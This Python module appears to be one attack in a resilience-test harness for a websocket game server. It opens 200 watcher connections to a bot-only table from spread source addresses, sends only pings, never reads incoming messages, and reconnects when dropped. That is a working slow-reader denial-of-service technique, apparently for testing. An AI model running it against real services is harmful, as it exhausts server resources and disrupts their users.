"""Two hundred watchers of a table where four bots play read nothing of what they are sent."""

from __future__ import annotations

import asyncio
import json
from functools import partial
from urllib.parse import urlsplit

from attacks.target import Target, addresses, together

WATCHERS = 200
UPGRADE = (
    "GET /api/tables/{table}/socket HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
    "Connection: Upgrade\r\nSec-WebSocket-Key: bGFuYWkgbGFuYWkgbGFuYQ==\r\n"
    "Sec-WebSocket-Version: 13\r\n\r\n"
)


async def attack(target: Target) -> None:
    """Watch with closed eyes, and come again when cut off."""
    token = await target.guest()
    bots = [{"seat": seat, "level": "medium"} for seat in range(4)]
    table = await target.table(token, game="moluku", players=4, bots=bots, start=True)
    where = urlsplit(target.url)

    async def watch(address: str) -> None:
        reader, writer = await asyncio.open_connection(
            where.hostname, where.port, local_addr=(address, 0), limit=1024
        )
        try:
            writer.write(UPGRADE.format(table=table, host=where.netloc).encode())
            await reader.readuntil(b"\r\n\r\n")
            writer.write(frame(json.dumps({"type": "hello", "token": None})))
            target.counts["watchers"] += 1
            while not writer.transport.is_closing():
                await asyncio.sleep(0.5)
                writer.write(frame(json.dumps({"type": "ping", "id": "p"})))
        finally:
            writer.close()

    await together(
        target.again(partial(watch, address), pause=0.5) for address in addresses(WATCHERS, 5)
    )


def frame(text: str) -> bytes:
    """Write a short message as a client does, with a mask of zeros."""
    return bytes((0x81, 0x80 | len(text))) + bytes(4) + text.encode()
